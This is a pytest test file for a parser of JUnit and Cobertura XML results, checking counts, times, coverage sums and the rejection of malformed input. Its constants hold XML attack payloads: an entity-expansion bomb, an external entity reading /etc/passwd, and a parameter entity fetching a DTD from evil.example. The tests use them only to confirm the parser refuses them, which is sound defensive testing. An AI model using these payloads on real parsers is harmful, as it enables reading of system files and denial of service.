"""JUnit's and Cobertura's XML."""

import contextlib

import pytest
from hypothesis import given
from hypothesis import strategies as st

from fakes.result_files import cobertura, junit
from trainboard.result_files import Coverage, Tally, UnreadableError
from trainboard.result_files.xml_files import read_xml

LAUGHS = """<!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">]>
<testsuite tests="1"><testcase name="&lol2;"/></testsuite>"""
OUTSIDE = '<!DOCTYPE x [<!ENTITY secret SYSTEM "file:///etc/passwd">]><testsuite>&secret;</testsuite>'
PARAMETERS = '<!DOCTYPE x [<!ENTITY % all SYSTEM "http://evil.example/x.dtd"> %all;]><testsuite/>'


def suite(*cases, **attributes):
    """A suite of JUnit's with these cases."""
    written = "".join(f' {name}="{value}"' for name, value in attributes.items())
    return f"<testsuite{written}>{''.join(cases)}</testsuite>".encode()


class TestJUnit:
    """Cases are counted, whatever the suites claim."""

    def test_outcomes(self):
        """Each case counts once by how it ended, and the bad ones are named in their order."""
        results = [("a", "Passed"), ("b", "Failed"), ("c", "Error"), ("d", "NotExecuted")]
        expected = Tally(passed=1, failed=1, errors=1, skipped=1, seconds=2.0, failing=("b", "c"))
        assert expected == read_xml(junit(results))

    def test_suites_in_suites(self):
        """A case in a suite of a suite is one case, though each suite counts it."""
        inner = '<testsuite tests="2"><testcase name="a"/><testcase name="b"/></testsuite>'
        outer = f'<testsuites tests="2"><testsuite tests="2">{inner}</testsuite></testsuites>'
        assert Tally(passed=2) == read_xml(outer.encode())

    @pytest.mark.parametrize("claimed", ["-1", "NaN", "1e999", "7", "999999999999999999999"])
    def test_claims_are_not_believed(self, claimed):
        """Counts of attributes count for nothing; without any case they are a lie."""
        attributes = {"tests": claimed, "failures": claimed, "errors": claimed}
        assert Tally(passed=1) == read_xml(suite('<testcase name="a"/>', **attributes))
        with pytest.raises(UnreadableError, match="does not list"):
            read_xml(suite(**attributes))

    def test_an_empty_suite_has_no_test(self):
        """That is known, and is not the same as not known."""
        assert Tally() == read_xml(suite(tests="0"))

    @pytest.mark.parametrize(
        ("time", "seconds"),
        [
            ("0.5", 0.5),
            ("1,200.5", 1200.5),
            ("-1", None),
            ("NaN", None),
            ("inf", None),
            ("", None),
            ("x", None),
        ],
    )
    def test_times(self, time, seconds):
        """A time that none can be is left out."""
        assert Tally(passed=1, seconds=seconds) == read_xml(suite(f'<testcase name="a" time="{time}"/>'))

    @pytest.mark.parametrize("attribute", ['status="notrun"', 'status="disabled"', 'result="suppressed"'])
    def test_what_was_not_run(self, attribute):
        """Tools of C++ say it by an attribute."""
        assert Tally(skipped=1) == read_xml(suite(f'<testcase name="a" {attribute}/>'))

    def test_a_retry_that_passed(self):
        """It passed, however often it failed before."""
        assert Tally(passed=1) == read_xml(suite('<testcase name="a"><flakyFailure/></testcase>'))

    def test_the_first_names(self):
        """No more than five, each cut, and a class where there is no name."""
        cases = [f'<testcase name="{"n" * 1000}{number}"><failure/></testcase>' for number in range(9)]
        tally = read_xml(suite('<testcase classname="k"><error/></testcase>', *cases))
        assert ("k", *["n" * 200] * 4) == tally.failing
        assert 10 == tally.total


class TestCobertura:
    """Sums are taken where they are told, else lines are counted."""

    def test_sums(self):
        """The document type that it names is fetched from nowhere."""
        assert Coverage(covered=8, valid=10) == read_xml(cobertura((8, 10)))

    def test_lines_of_classes(self):
        """Lines of methods stand there a second time and are not counted."""
        lines = '<lines><line number="1" hits="2"/><line number="2" hits="0"/></lines>'
        kind = f'<class><methods><method name="m">{lines}</method></methods>{lines}</class>'
        package = f"<packages><package><classes>{kind}</classes></package></packages>"
        document = f'<coverage line-rate="0.5">{package}</coverage>'
        assert Coverage(covered=1, valid=2) == read_xml(document.encode())

    @pytest.mark.parametrize(
        "sums", [("-1", 10), ("NaN", 10), (11, 10), (1, "1e3"), (1, "9" * 5000), ("", "")]
    )
    def test_sums_that_cannot_be(self, sums):
        """They are refused, not shown."""
        with pytest.raises(UnreadableError):
            read_xml(cobertura(sums))

    @pytest.mark.parametrize("document", [b"<coverage/>", b'<coverage line-rate="0.9"/>'])
    def test_a_rate_alone_is_not_enough(self, document):
        """Rates cannot be added up."""
        with pytest.raises(UnreadableError):
            read_xml(document)

    def test_no_lines(self):
        """Nothing to be covered is no percent."""
        assert read_xml(cobertura((0, 0))).percent is None


@pytest.mark.parametrize("document", [LAUGHS, OUTSIDE, PARAMETERS])
def test_entities_are_refused(document):
    """None is expanded and none is fetched."""
    with pytest.raises(UnreadableError, match="defines the entity"):
        read_xml(document.encode())


@pytest.mark.parametrize(
    "document", [b"", b"\0", b"<testsuite>", b"<a><b></a>", b'<?xml version="1.0" encoding="utf-99"?><a/>']
)
def test_broken_documents(document):
    """Whatever is wrong, it is one error."""
    with pytest.raises(UnreadableError):
        read_xml(document)


def test_depth_is_bounded():
    """Elements in elements end somewhere."""
    with pytest.raises(UnreadableError, match="deep"):
        read_xml(b"<testsuite>" * 1_000)


@pytest.mark.parametrize("document", [b"<html/>", b"<project><testsuite/></project>"])
def test_other_documents(document):
    """They are nobody's results."""
    assert read_xml(document) is None


PIECES = st.sampled_from(
    [
        "<testsuite>",
        "</testsuite>",
        '<testcase name="a" time="nan">',
        "</testcase>",
        "<failure/>",
        "<coverage>",
        '<coverage lines-covered="-1" lines-valid="3">',
        "<class><lines>",
        '<line hits="-3"/>',
        "<!DOCTYPE a [<!ENTITY b 'c'>]>",
        "&b;",
        "<![CDATA[",
        "<!--",
        '<?xml version="1.0" encoding="x"?>',
    ]
)


@given(st.binary() | st.text().map(str.encode) | st.lists(PIECES).map(lambda parts: "".join(parts).encode()))
def test_anything_else_is_one_error(content):
    """Whoever wrote it, reading it ends with a value or with an error of ours."""
    with contextlib.suppress(UnreadableError):
        assert isinstance(read_xml(content), Tally | Coverage | None)
